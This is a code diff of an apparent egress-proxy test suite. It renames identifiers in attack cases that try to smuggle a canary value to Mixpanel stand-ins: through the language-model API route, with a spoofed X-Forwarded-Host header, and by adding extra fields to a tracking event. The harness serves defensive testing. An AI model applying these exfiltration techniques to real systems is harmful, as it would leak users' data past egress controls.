@@ -1,19 +1,19 @@
-import type { BreakIn, Scene } from "./breakIn";
+/** Break-ins that send data past the tracking plan. */
+import type { AttackContext, BreakIn } from "./breakIn";
 import { startWithRawPlan } from "./rawPlan";
 import type { Verdict } from "./verdict";
-import { shoot } from "./wire";
+import { sendRequest } from "./wire";
 
-/** Time in which something that got through would have arrived, in milliseconds. */
+/** Time within which something that got through arrives, in milliseconds. */
 const arrival = 2_000;
 
-/** Ways to get data past the tracking plan, through the attacker's own relay and egress proxy. */
 export const egressBreakIns: readonly BreakIn[] = [
   {
     id: "vendor-through-api",
     title: "sends analytics through the language model's route",
     expected: "egress proxy",
-    attempt: async (scene) => {
-      const { attacker, canary } = scene;
+    attempt: async (context) => {
+      const { attacker, canary } = context;
       const vendor = "https://api.mixpanel.com/track";
       const targets = [
         `/api/mixpanel/track?data=${canary}`,
@@ -26,7 +26,7 @@ export const egressBreakIns: readonly BreakIn[] = [
       ];
       for (const target of targets) {
         const headers = [["Content-Type", "application/json"]] as const;
-        await shoot(attacker.foothold, {
+        await sendRequest(attacker.foothold, {
           url: attacker.relay,
           target,
           method: "POST",
@@ -35,7 +35,7 @@ export const egressBreakIns: readonly BreakIn[] = [
         });
       }
       return arrivedAt(
-        scene,
+        context,
         (host) => host !== "api.anthropic.com",
         `${targets.length} addresses, none of which reached the vendor`,
       );
@@ -45,13 +45,13 @@ export const egressBreakIns: readonly BreakIn[] = [
     id: "host-through-api",
     title: "names the vendor's host on the language model's route",
     expected: "egress proxy",
-    attempt: async (scene) => {
-      const { attacker, canary } = scene;
+    attempt: async (context) => {
+      const { attacker, canary } = context;
       const headers = [
         ["X-Forwarded-Host", "api.mixpanel.com"],
         ["Content-Type", "application/json"],
       ] as const;
-      const shot = {
+      const request = {
         url: attacker.relay,
         target: `/api/anthropic/track?data=${canary}`,
         host: "api.mixpanel.com",
@@ -59,9 +59,9 @@ export const egressBreakIns: readonly BreakIn[] = [
         headers,
         body: "{}",
       };
-      await shoot(attacker.foothold, shot);
+      await sendRequest(attacker.foothold, request);
       return arrivedAt(
-        scene,
+        context,
         (host) => host !== "api.anthropic.com",
         "the plan's address decides, not the request's host",
       );
@@ -71,8 +71,8 @@ export const egressBreakIns: readonly BreakIn[] = [
     id: "raw-field",
     title: "adds fields of its own to an event of the plan",
     expected: "egress proxy",
-    attempt: async (scene) => {
-      const { attacker, canary } = scene;
+    attempt: async (context) => {
+      const { attacker, canary } = context;
       const started = new Date().toISOString();
       const event = {
         event: "file_uploaded",
@@ -93,20 +93,20 @@ export const egressBreakIns: readonly BreakIn[] = [
         ["Referer", `https://example.com/${canary}`],
       ] as const;
       const body = JSON.stringify([event, { event: canary, properties: { token: canary } }]);
-      await shoot(attacker.foothold, {
+      await sendRequest(attacker.foothold, {
         url: attacker.relay,
         target: `/mixpanel/track?ip=1&data=${canary}`,
         method: "POST",
         headers,
         body,
       });
-      const verdict = await arrivedAt(scene, () => true, "the event left, with the plan's fields only");
-      const left = scene.running
+      const verdict = await arrivedAt(context, () => true, "the event left, with the plan's fields only");
+      const left = context.running
         .received()
         .some(
           ({ time, from, host }) => from === attacker.proxy.name && host.endsWith(".mixpanel.com") && time >= started,
         );
-      // A wall that lets nothing at all through proves nothing.
+      // If nothing at all left, the attempt proves nothing.
       return verdict.denied && !left
         ? { denied: false, unclear: true, because: "the event itself never left, so nothing was tried" }
         : verdict;
@@ -120,16 +120,16 @@ export const egressBreakIns: readonly BreakIn[] = [
   },
 ];
 
-/** Whether the canary turned up at a stand-in, in any form in which it could be written. */
+/** Whether the canary arrived at a stand-in of a vendor or API, in any encoding. */
 async function arrivedAt(
-  { running, canary }: Scene,
+  { running, canary }: AttackContext,
   counts: (host: string) => boolean,
   because: string,
 ): Promise<Verdict> {
   const forms = [canary, Buffer.from(canary).toString("hex"), encodeURIComponent(canary)];
   const until = Date.now() + arrival;
   while (Date.now() < until) {
-    const hit = running.received().find((received) => {
+    const result = running.received().find((received) => {
       if (!counts(received.host)) {
         return false;
       }
@@ -140,8 +140,8 @@ async function arrivedAt(
       );
       return forms.some((form) => decoded.includes(form));
     });
-    if (hit) {
-      return { denied: false, because: `it arrived at ${hit.host}` };
+    if (result) {
+      return { denied: false, because: `it arrived at ${result.host}` };
     }
     await new Promise((done) => setTimeout(done, 100));
   }
